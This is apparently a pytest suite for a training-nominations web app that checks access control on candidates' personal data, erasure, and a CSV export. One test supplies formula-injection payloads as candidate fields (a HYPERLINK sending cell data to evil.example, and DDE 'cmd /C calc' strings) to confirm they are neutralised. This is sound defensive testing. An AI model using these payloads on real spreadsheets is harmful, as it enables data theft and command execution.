"""Candidates' personal data on the training pages: who sees a candidate (guessed ids too), who may export the
nominations and how the file keeps spreadsheets from running formulas, and erasure that leaves the counts."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import date, timedelta
from typing import Any

import pytest
from sqlmodel import Session, col, func, select

from app.auth.models import User
from app.core.config import get_settings
from app.training import service
from app.training.models import Nomination, NominationEvent, TrainingOffer
from tests.factories import csrf_token, make_user, sign_in, soup, state

NO_SUCH_NOMINATION = "No such nomination."
ROLE_REFUSED = "Your role does not give access to this page."
MANAGERS_ONLY = "Only the course provider, coordinators and admins may do this."
CSV_HEADER = [
    "State",
    "Preference",
    "Full name",
    "Rank or grade",
    "Service",
    "Gender",
    "Languages",
    "Notes",
    "Status",
    "Reason",
    "Outcome",
    "Outcome date",
]


def focal_point(session: Session, code: str, **fields: Any) -> User:
    return make_user(session, role="focal_point", member_state_id=state(session, code).id, password=None, **fields)


def staff(session: Session, role: str, **fields: Any) -> User:
    return make_user(session, role=role, password=None, **fields)


def course(session: Session, by: User, *, publish: bool = True, **changes: Any) -> TrainingOffer:
    """A police SAAT course online starting in forty days, 4 seats, 2 per state, offered by `by`'s state."""
    start = date.today() + timedelta(days=40)
    fields: dict[str, Any] = {
        "title": "SAAT preparation",
        "course_type": "saat-preparation",
        "track": "police",
        "starts_on": start.isoformat(),
        "ends_on": (start + timedelta(days=4)).isoformat(),
        "deadline_on": (start - timedelta(days=10)).isoformat(),
        "seats": 4,
        "seats_per_state": 2,
        "languages": ["en"],
        "online": True,
        "zone": "Pacific/Fiji",
    }
    fields.update(changes)
    offer = service.create_offer(session, user=by, form=service.OfferForm(**fields))
    if publish:
        service.set_status(session, get_settings(), user=by, offer=offer, status="published")
    return offer


@dataclass
class Cast:
    """A course Fiji provides, with Samoa's and Tonga's candidates, and everyone who might look at them."""

    offer: TrainingOffer
    sina: Nomination
    mele: Nomination
    readers: dict[str, User]


@pytest.fixture
def cast(session: Session) -> Cast:
    readers = {
        "provider": focal_point(session, "FJ"),
        "samoa": focal_point(session, "WS"),
        "samoa colleague": focal_point(session, "WS"),
        "tonga": focal_point(session, "TO"),
        "other provider": focal_point(session, "AU"),
        "coordinator": staff(session, "coordinator"),
        "admin": staff(session, "admin"),
        "observer": staff(session, "observer"),
    }
    offer = course(session, readers["provider"])
    sina = service.nominate(
        session,
        user=readers["samoa"],
        offer=offer,
        form=service.CandidateForm(
            full_name="Sina Leota",
            gender="woman",
            rank="Senior Constable",
            service="Samoa Police Service",
            languages=["en"],
            notes="Served with UNMISS in 2023",
        ),
    )
    mele = service.nominate(
        session,
        user=readers["tonga"],
        offer=offer,
        form=service.CandidateForm(full_name="Mele Taufa", gender="woman", rank="Inspector", service="Tonga Police"),
    )
    return Cast(offer, sina, mele, readers)


def alert(html: str) -> str:
    found = soup(html).find(attrs={"role": "alert"})
    assert found is not None, "the page shows no error message"
    return " ".join(found.get_text(" ").split())


def text_of(node: Any) -> str:
    return " ".join(node.get_text(" ").split())


def rows(text: str) -> list[list[str]]:
    """The CSV file's rows; it opens with the byte order mark that tells Excel it is UTF-8."""
    assert text.startswith("\ufeff"), "the CSV has no byte order mark"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def saved(session: Session) -> list[tuple[Any, ...]]:
    """The nominations as stored, personal data included."""
    session.expire_all()
    return list(
        session.exec(
            select(
                Nomination.id,
                Nomination.full_name,
                Nomination.rank,
                Nomination.service,
                Nomination.notes,
                Nomination.status,
                Nomination.erased_at,
            ).order_by(col(Nomination.id))
        ).all()
    )


def certify(session: Session, cast: Cast) -> None:
    """Sina is accepted, the course took place last week and she passed the SAAT."""
    provider, offer = cast.readers["provider"], cast.offer
    service.allocate(
        session,
        get_settings(),
        user=provider,
        offer=offer,
        decisions={cast.sina.id: "accepted"},  # type: ignore[dict-item]
        reasons={},
    )
    service.set_status(session, get_settings(), user=provider, offer=offer, status="closed")
    offer.starts_on, offer.ends_on = date.today() - timedelta(days=9), date.today() - timedelta(days=5)
    offer.deadline_on = offer.starts_on - timedelta(days=10)
    session.add(offer)
    session.commit()
    service.record_outcomes(
        session,
        user=provider,
        offer=offer,
        outcomes={cast.sina.id: ("passed", (date.today() - timedelta(days=5)).isoformat())},
    )  # type: ignore[dict-item]


# Who sees a candidate


@pytest.mark.parametrize("who", ["samoa", "samoa colleague", "provider", "coordinator", "admin"])
def test_a_candidates_details_are_shown_to_their_states_focal_points_the_provider_and_the_staff(
    client: Any, session: Session, cast: Cast, who: str
) -> None:
    sign_in(client, session, cast.readers[who])
    response = client.get(f"/training/nominations/{cast.sina.id}")
    assert response.status_code == 200
    page = soup(response.text)
    assert page.find("h1").get_text(strip=True) == "Sina Leota"
    facts = text_of(page.find("dl"))
    for detail in ("Senior Constable", "Samoa Police Service", "English", "Served with UNMISS in 2023"):
        assert detail in facts
    assert response.headers["cache-control"] == "no-store", "a shared computer's browser keeps no copy"


@pytest.mark.parametrize("who", ["tonga", "other provider"])
def test_another_states_focal_point_gets_404_for_any_candidate_id_real_or_guessed(
    client: Any, session: Session, cast: Cast, who: str
) -> None:
    """The answer for someone else's candidate is the same as for an id that does not exist."""
    highest = session.exec(select(func.max(Nomination.id))).one()
    sign_in(client, session, cast.readers[who])
    for guessed in (cast.sina.id, highest + 1, highest + 1000):
        response = client.get(f"/training/nominations/{guessed}")
        assert response.status_code == 404, guessed
        assert alert(response.text) == NO_SUCH_NOMINATION
        assert "Sina" not in response.text and "Senior Constable" not in response.text
    own = client.get(f"/training/nominations/{cast.mele.id}")
    assert own.status_code == (200 if who == "tonga" else 404)


@pytest.mark.parametrize("who", ["tonga", "other provider"])
def test_another_states_focal_point_cannot_erase_withdraw_or_reorder_a_candidate(
    client: Any, session: Session, cast: Cast, who: str
) -> None:
    sign_in(client, session, cast.readers[who])
    token = csrf_token(client.get("/training").text)
    before = saved(session)
    for action, fields in (("erase", {}), ("withdraw", {}), ("move", {"direction": "down"})):
        response = client.post(f"/training/nominations/{cast.sina.id}/{action}", data={"csrf_token": token, **fields})
        assert response.status_code == 404, action
        assert alert(response.text) == NO_SUCH_NOMINATION
    assert saved(session) == before


def test_an_observer_is_refused_candidate_pages_by_role_before_any_lookup(
    client: Any, session: Session, cast: Cast
) -> None:
    highest = session.exec(select(func.max(Nomination.id))).one()
    sign_in(client, session, cast.readers["observer"])
    token = csrf_token(client.get("/training").text)
    for guessed in (cast.sina.id, cast.mele.id, highest + 1):
        response = client.get(f"/training/nominations/{guessed}")
        assert response.status_code == 403, guessed
        assert alert(response.text) == ROLE_REFUSED
        assert "Sina" not in response.text and "Mele" not in response.text
    before = saved(session)
    response = client.post(f"/training/nominations/{cast.sina.id}/erase", data={"csrf_token": token})
    assert response.status_code == 403
    assert saved(session) == before


def test_a_visitor_who_is_not_signed_in_is_sent_to_sign_in_and_sees_no_candidate(
    client: Any, session: Session, cast: Cast
) -> None:
    response = client.get(f"/training/nominations/{cast.sina.id}")
    assert response.status_code == 303
    assert response.headers["location"] == f"/auth/sign-in?next=/training/nominations/{cast.sina.id}"
    assert "Sina" not in response.text


@pytest.mark.parametrize(
    ("who", "named"),
    [
        ("provider", {"Sina Leota", "Mele Taufa"}),
        ("coordinator", {"Sina Leota", "Mele Taufa"}),
        ("samoa", {"Sina Leota"}),
        ("tonga", {"Mele Taufa"}),
        ("other provider", set()),
        ("observer", set()),
    ],
)
def test_the_offer_page_names_only_the_candidates_the_reader_may_see_while_everyone_sees_the_counts(
    client: Any, session: Session, cast: Cast, who: str, named: set[str]
) -> None:
    sign_in(client, session, cast.readers[who])
    page = client.get(f"/training/{cast.offer.id}")
    assert page.status_code == 200
    assert {name for name in ("Sina Leota", "Mele Taufa") if name in page.text} == named
    assert "Nominated: 100.0% women (2 of 2)" in text_of(soup(page.text).find(id="women-heading").parent)


@pytest.mark.parametrize(
    ("who", "named"),
    [("samoa", True), ("provider", True), ("coordinator", True), ("tonga", False), ("observer", False)],
)
def test_a_states_training_record_names_people_only_for_those_who_may_see_them(
    client: Any, session: Session, cast: Cast, who: str, named: bool
) -> None:
    certify(session, cast)
    sign_in(client, session, cast.readers[who])
    page = soup(client.get("/training/records/WS").text)
    tables = page.find_all("table")
    counts = [text_of(cell) for cell in tables[0].find("tbody").find("tr").find_all(["th", "td"])]
    assert counts == ["SAAT preparation and assessment", "1", "1", "1"]
    assert ("Sina Leota" in str(page)) is named
    assert len(tables) == (2 if named else 1)


# Erasure


def figures(client: Any, offer: TrainingOffer) -> dict[str, str]:
    """What the counting pages show, without the candidates' names."""
    record = soup(client.get("/training/records/WS").text).find_all("table")[0]
    certified = soup(client.get("/training/certified").text).find("a", href="/training/records/WS").find_parent("tr")
    reports = soup(client.get("/training/reports").text).find_all("table")
    offers = soup(client.get("/training", headers={"HX-Request": "true"}).text)
    share = soup(client.get(f"/training/{offer.id}").text).find(id="women-heading").parent
    return {
        "record": text_of(record),
        "certified": text_of(certified),
        "reports": " | ".join(map(text_of, reports)),
        "catalogue": text_of(offers),
        "offer": text_of(share),
    }


@pytest.mark.parametrize("who", ["samoa", "provider", "coordinator"])
def test_erasing_a_candidate_removes_their_details_from_the_page_the_csv_and_the_record_while_counts_stay(
    client: Any, session: Session, cast: Cast, who: str
) -> None:
    certify(session, cast)
    sign_in(client, session, cast.readers["provider"])
    counted = figures(client, cast.offer)
    assert "Sina Leota" in client.get(f"/training/{cast.offer.id}/nominations.csv").text
    assert "Sina Leota" in client.get("/training/records/WS").text

    sign_in(client, session, cast.readers[who])
    page = client.get(f"/training/nominations/{cast.sina.id}").text
    response = client.post(f"/training/nominations/{cast.sina.id}/erase", data={"csrf_token": csrf_token(page)})
    assert response.status_code == 303
    assert response.headers["location"] == f"/training/nominations/{cast.sina.id}?notice=erased"

    after = soup(client.get(response.headers["location"]).text)
    assert after.find(attrs={"role": "status"}).get_text(strip=True) == "The candidate's personal data has been erased."
    assert after.find("h1").get_text(strip=True) == "Erased candidate"
    shown = str(after)
    for detail in ("Sina", "Leota", "Senior Constable", "Samoa Police Service", "UNMISS"):
        assert detail not in shown
    facts = text_of(after.find("dl"))
    assert "Woman" in facts and "Accepted" in facts and "SAAT passed" in facts
    assert after.find("form", action=f"/training/nominations/{cast.sina.id}/erase") is None

    sign_in(client, session, cast.readers["provider"])
    exported = client.get(f"/training/{cast.offer.id}/nominations.csv").text
    assert "Sina" not in exported and "Senior Constable" not in exported
    samoan = [row for row in rows(exported)[1:] if row[0] == "Samoa"]
    assert len(samoan) == 1
    assert samoan[0][2:5] + [samoan[0][7]] == ["", "", "", ""]
    assert (samoan[0][5], samoan[0][8], samoan[0][10]) == ("Woman", "Accepted", "SAAT passed")
    record = client.get("/training/records/WS").text
    assert "Sina" not in record and "Erased candidate" in record
    assert figures(client, cast.offer) == counted
    stored = session.get(Nomination, cast.sina.id)
    session.refresh(stored)
    assert (stored.full_name, stored.rank, stored.service, stored.languages, stored.notes) == ("", "", "", "", "")
    assert (stored.gender, stored.status, stored.outcome, stored.state_id) == (
        "woman",
        "accepted",
        "passed",
        state(session, "WS").id,
    )


def test_erasing_a_declined_candidate_also_removes_the_reason_that_named_them(
    client: Any, session: Session, cast: Cast
) -> None:
    provider = cast.readers["provider"]
    sign_in(client, session, provider)
    page = client.get(f"/training/{cast.offer.id}").text
    client.post(
        f"/training/{cast.offer.id}/allocation",
        data={
            "csrf_token": csrf_token(page),
            f"decision-{cast.sina.id}": "declined",
            f"reason-{cast.sina.id}": "Sina Leota's passport expires before the course",
        },
    )
    assert "passport expires" in client.get(f"/training/nominations/{cast.sina.id}").text

    sign_in(client, session, cast.readers["samoa"])
    page = client.get(f"/training/nominations/{cast.sina.id}").text
    client.post(f"/training/nominations/{cast.sina.id}/erase", data={"csrf_token": csrf_token(page)})

    for reader, path in (
        (cast.readers["samoa"], f"/training/nominations/{cast.sina.id}"),
        (cast.readers["samoa"], f"/training/{cast.offer.id}"),
        (provider, f"/training/{cast.offer.id}"),
        (provider, f"/training/{cast.offer.id}/nominations.csv"),
    ):
        sign_in(client, session, reader)
        shown = client.get(path).text
        assert "Sina" not in shown and "passport" not in shown, path
    notes = session.exec(select(NominationEvent.note).where(NominationEvent.nomination_id == cast.sina.id)).all()
    assert not any("passport" in note for note in notes)


# The CSV export


@pytest.mark.parametrize("who", ["provider", "coordinator", "admin"])
def test_the_nominations_csv_is_an_attachment_with_a_header_row_and_formula_cells_made_harmless(
    client: Any, session: Session, cast: Cast, who: str
) -> None:
    risky = {
        "full_name": '=HYPERLINK("http://evil.example/?d="&C3,"Open")',
        "rank": "@SUM(1+1)*cmd|' /C calc'!A0",
        "service_name": "+679 331 2222",
        "notes": "-2+3+cmd|' /C calc'!A0",
    }
    sign_in(client, session, cast.readers["samoa"])
    page = client.get(f"/training/{cast.offer.id}").text
    response = client.post(
        f"/training/{cast.offer.id}/nominations",
        data={"csrf_token": csrf_token(page), "gender": "man", "languages": ["fr"], **risky},
    )
    assert response.status_code == 303

    sign_in(client, session, cast.readers[who])
    response = client.get(f"/training/{cast.offer.id}/nominations.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == f'attachment; filename="nominations-{cast.offer.id}.csv"'
    assert response.headers["cache-control"] == "no-store"
    table = rows(response.text)
    assert table[0] == CSV_HEADER
    by_preference = {(row[0], row[1]): row for row in table[1:]}
    assert set(by_preference) == {("Samoa", "1"), ("Samoa", "2"), ("Tonga", "1")}
    plain = by_preference[("Samoa", "1")]
    assert plain[2:8] == [
        "Sina Leota",
        "Senior Constable",
        "Samoa Police Service",
        "Woman",
        "English",
        "Served with UNMISS in 2023",
    ]
    formula = by_preference[("Samoa", "2")]
    assert formula[2:5] + [formula[7]] == ["'" + risky[key] for key in ("full_name", "rank", "service_name", "notes")]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)


def test_the_csv_opens_in_excel_with_pacific_names_as_written(client: Any, session: Session, cast: Cast) -> None:
    """UTF-8 with a byte order mark: without it Excel reads "SÄpolu" where the provider should read "Sāpolu"."""
    sign_in(client, session, cast.readers["samoa"])
    page = client.get(f"/training/{cast.offer.id}").text
    named = {"full_name": "ʻAna Sāpolu", "rank": "Sergeant", "service_name": "Ministry of Police", "notes": "Tōfā"}
    response = client.post(
        f"/training/{cast.offer.id}/nominations",
        data={"csrf_token": csrf_token(page), "gender": "woman", "languages": ["en"], **named},
    )
    assert response.status_code == 303
    sign_in(client, session, cast.readers["coordinator"])
    body = client.get(f"/training/{cast.offer.id}/nominations.csv").content
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\xef\xbb\xbf") == 1
    row = next(row for row in rows(body.decode("utf-8")) if row[2] == "ʻAna Sāpolu")
    assert row[7] == "Tōfā"


def test_the_csv_speaks_the_language_of_whoever_downloads_it(client: Any, session: Session, cast: Cast) -> None:
    sign_in(client, session, staff(session, "coordinator", language="fr"))
    table = rows(client.get(f"/training/{cast.offer.id}/nominations.csv").text)
    assert table[0][:5] == ["État", "Préférence", "Nom complet", "Grade ou rang", "Service"]
    samoan = next(row for row in table if row[0] == "Samoa")
    assert (samoan[5], samoan[6], samoan[8]) == ("Femme", "Anglais", "En attente de décision")


@pytest.mark.parametrize(("who", "message"), [("samoa", None), ("observer", ROLE_REFUSED)])
def test_the_csv_is_refused_to_a_nominating_state_and_to_observers_whatever_offer_id_they_try(
    client: Any, session: Session, cast: Cast, who: str, message: str | None
) -> None:
    """A nominating state is refused the export of a visible offer and told nothing exists elsewhere; an observer
    is refused by role whatever the id."""
    australia = cast.readers["other provider"]
    others = course(session, australia, title="UN staff officer", course_type="staff-officer", track="military")
    service.nominate(
        session,
        user=cast.readers["samoa"],
        offer=others,
        form=service.CandidateForm(full_name="Tavita Faleolo", gender="man"),
    )
    draft = course(session, australia, publish=False, title="Draft course")
    highest = session.exec(select(func.max(TrainingOffer.id))).one()
    expected = {
        cast.offer.id: (403, MANAGERS_ONLY),
        others.id: (403, MANAGERS_ONLY),
        draft.id: (404, "No such training offer."),
        highest + 1: (404, "No such training offer."),
    }
    sign_in(client, session, cast.readers[who])
    for offer_id, (status, text) in expected.items():
        response = client.get(f"/training/{offer_id}/nominations.csv")
        assert (response.status_code, alert(response.text)) == ((403, message) if message else (status, text))
        assert not response.headers["content-type"].startswith("text/csv")
        assert "attachment" not in response.headers.get("content-disposition", "")
        for name in ("Sina", "Mele", "Tavita"):
            assert name not in response.text


def test_the_csv_is_not_given_to_a_visitor_who_is_not_signed_in(client: Any, session: Session, cast: Cast) -> None:
    response = client.get(f"/training/{cast.offer.id}/nominations.csv")
    assert response.status_code == 303
    assert response.headers["location"].startswith("/auth/sign-in")
    assert "Sina" not in response.text
